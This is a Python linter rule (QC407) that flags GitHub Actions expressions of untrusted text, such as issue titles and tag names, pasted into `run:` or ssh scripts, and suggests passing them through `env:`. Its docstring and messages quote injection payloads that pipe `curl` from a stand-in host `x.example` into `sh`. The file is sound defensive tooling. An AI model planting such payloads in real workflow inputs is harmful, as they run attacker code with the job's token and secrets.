"""QC407 expression-injection: a GitHub Actions `${{ }}` expression of text that someone else
writes, pasted into a `run:` script.

The runner evaluates `${{ ... }}` and pastes the result into the script before the shell
reads it: an issue title, a pull request's branch name or body, a commit message becomes code.
A title such as ``"; curl -s https://x.example/p | sh; echo "`` runs in the job, with its
token and secrets. Passing the value through `env:` and reading `"$TITLE"` keeps it data.
"""

from __future__ import annotations

from collections.abc import Iterator

from quotecheck.diagnostics import Severity
from quotecheck.hosts.github_actions import (
    INPUT_CONTEXTS,
    RELEASE_CONTEXTS,
    UNTRUSTED_CONTEXTS,
)
from quotecheck.rules.api import CheckContext, Finding, Rule, Template
from quotecheck.rules.triggers import Trigger

_INJECTION = Template(
    "expression-becomes-code",
    "`{written}` pastes {whose} into the script before the shell reads it",
    "the runner replaces the expression with its value and then runs the script, so quotes, "
    "`;`, `$(...)` and backticks in the value are code: {example} Pass it through the step's "
    "`env:` (`env: {name}: {written}`) and read `\"${name}\"` in the script.")


_REMOTE_INJECTION = Template(
    "expression-becomes-remote-code",
    "`{written}` pastes {whose} into the script that {action} runs over ssh",
    "the runner replaces the expression with its value before the action sends the script, "
    "and the remote login shell runs the result, so quotes, `;`, `$(...)` and backticks in "
    "the value are code on {host}: {example} {advice}")


def _env_name(written: str) -> str:
    last = written.strip("${} ").split(".")[-1]
    name = "".join(c if c.isalnum() else "_" for c in last).upper()
    return name if name and not name[0].isdigit() else "VALUE"


def check(ctx: CheckContext) -> Iterator[Finding]:
    host = ctx.trace.host
    if host is None or host.format != "github-actions":
        return
    root = ctx.trace.root
    for value in host.values:
        severity: Severity
        untrusted = bool(UNTRUSTED_CONTEXTS.search(value.written))
        if untrusted:
            whose = "text that whoever opens the issue, pull request or comment writes"
            example = ("a title such as `\"; curl -s https://x.example/p | sh; echo \"` runs "
                       "in this job, with its token and secrets.")
            severity = "error"
        elif value.outside and INPUT_CONTEXTS.search(value.written):
            # (whoever runs or calls the workflow can change it anyway: information)
            whose = "an input's text (whoever runs or calls the workflow chooses it)"
            example = "an input with a quote or a `;` breaks the script or runs code."
            severity = "info"
        elif RELEASE_CONTEXTS.search(value.written):
            # (whoever can push a tag can point it at a commit whose workflow runs anything:
            # the value gives them no more than they have, so information, as for an input)
            whose = ("a release's text (whoever can push tags and publish a release chooses "
                     "it, and can change the workflow the release runs as well)")
            example = ("`v1\";curl${IFS}-s${IFS}x.example/p|sh;#` is a valid tag name (`git "
                       "check-ref-format` refuses blanks, not quotes or `;`), and notes with a "
                       "quote break the script.")
            severity = "info"
        else:
            continue
        name = _env_name(value.written)
        launch = next((x for x in host.launches if x.ssh and
                       x.span[0] <= value.span[0] < x.span[1]), None)
        if launch is None:
            message = _INJECTION(written=value.written, whose=whose, example=example, name=name)
        else:
            action = launch.api.split("(", 1)[-1].split(",")[0]
            advice = (f"Pass it through the step's `env:` (`env: {name}: {value.written}`), "
                      f"name it in the action's `envs:` (`envs: {name}`), which sends it in "
                      f"single quotes, and read `\"${name}\"` in the script."
                      if action == "appleboy/ssh-action" else
                      "This action has no way to send a value as data: send it with one "
                      "that does (appleboy/ssh-action's `envs:`), or in a file.")
            message = _REMOTE_INJECTION(written=value.written, whose=whose, example=example,
                                        action=action, host=launch.destination or "the server",
                                        advice=advice)
        yield Finding(value.span, message, root, (), (), severity)


RULE = Rule("QC407", "expression-injection",
            "A `${{ }}` expression of someone else's text pasted into a `run:` script", "error",
            check, tags=("host",), trigger=Trigger(formats=frozenset({"github-actions"})))
